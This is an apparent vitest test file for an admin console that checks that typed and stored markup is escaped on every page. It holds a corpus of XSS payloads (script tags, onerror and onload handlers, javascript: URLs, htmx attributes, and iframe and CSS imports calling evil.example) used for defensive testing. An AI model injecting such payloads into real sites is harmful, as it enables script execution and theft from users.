import { beforeAll, expect, it } from 'vitest';
import { type ConsolePage, signInToConsole } from '../support/console/console-person.ts';
import { typeEverywhere } from '../support/console/type-everywhere.ts';
import { enterConsole, fillInstance, walkConsole } from '../support/console/walk-console.ts';
import { signIn } from '../support/instances/callers.ts';
import { useInstance } from '../support/instances/instance.ts';
import { parsePage } from '../support/pages/parse-page.ts';
import { useBrowser } from '../support/pages/use-browser.ts';
import { openWatchedPage } from '../support/pages/watched-page.ts';

/** Markup that leaves an attribute, a text or a script if it is not escaped. */
const corpus = [
  '<img src=x onerror="corpus()">',
  '"><x-corpus hx-get="https://evil.example/a" hx-trigger="load">',
  "'><script>corpus()</script>",
  '</textarea></title></style></script><x-corpus onclick=corpus()>',
  '<svg onload=corpus()><a href="javascript:corpus()">',
  'javascript:corpus()',
  '<!--><x-corpus hx-on:load="corpus()">',
  '<iframe src="https://evil.example/b"></iframe>',
  '<style>@import url(https://evil.example/c)</style><link rel=stylesheet href=https://evil.example/d>',
  '&lt;x-corpus&gt;\u003cx-corpus\u003e',
];

const instance = useInstance();
const browser = useBrowser();
beforeAll(async () => {
  await fillInstance(instance);
});

/** What a browser would make of markup that was not escaped. */
function liveMarkup({ html, path }: ConsolePage): string[] {
  return parsePage(html).elements.flatMap(({ name, attribs }) => {
    const isForeign = name === 'x-corpus' || name === 'iframe' ? attribs.src?.includes('evil') : false;
    const live = Object.entries(attribs).filter(
      ([attribute, value]) =>
        /corpus|evil/.test(value) &&
        (/^(on|hx-|data-hx-)/.test(attribute) ||
          (/^(href|src|action|formaction|style)$/.test(attribute) &&
            /^\s*(javascript:|https:\/\/evil)/.test(value))),
    );
    const isLive = isForeign || name === 'x-corpus' || live.length > 0;
    return isLive ? [`${path}: <${name} ${JSON.stringify(attribs)}>`] : [];
  });
}

it('shows markup as text, in every field that is typed into and on every page that shows it', async () => {
  const admin = await signIn(instance, 'admin');
  for (const [index, markup] of corpus.entries()) {
    const context = { subject: `${markup}${index}`, layoutData: { elements: ['processing.001'] } };
    const values = { 'element/processing/processing.001/1.0': ['accepted'] };
    await admin.send('POST', '/consents/singlestep', { context, values });
  }
  const found: string[] = [];
  let shown = 0;
  const look = (page: ConsolePage) => {
    found.push(...liveMarkup(page), ...(page.status >= 500 ? [`${page.path}: ${page.status}`] : []));
    if (page.html.includes('&lt;x-corpus')) shown += 1;
  };
  const person = await signInToConsole(instance.url, 'admin');
  let fields = 0;
  for (let start = 0; start < corpus.length; start += 5)
    fields += await typeEverywhere(
      person,
      (field) => corpus[(start + field) % corpus.length] as string,
      look,
    );
  expect(found).toEqual([]);
  expect(fields).toBeGreaterThan(100);
  expect(shown).toBeGreaterThan(20);

  const watched = await openWatchedPage(browser, [instance.url]);
  await enterConsole(watched.page, instance.url, 'admin');
  await watched.page.evaluate('window.corpus = undefined');
  const called: string[] = [];
  await watched.page.exposeFunction('corpus', () => called.push(watched.page.url()));
  await walkConsole(watched.page, instance.url, async (path) => {
    found.push(...liveMarkup({ html: await watched.page.content(), path } as ConsolePage));
  });
  expect({ found, called }).toEqual({ found: [], called: [] });
  // The names of people and what was typed are in no log line, and so in no address that is logged.
  expect(instance.logs()).not.toMatch(/x-corpus|evil\.example|anna/);
  const complaints = (await watched.complaints()).filter((each) => !each.startsWith('set the cookie'));
  expect(complaints).toEqual([]);
  await watched.close();
}, 300_000);
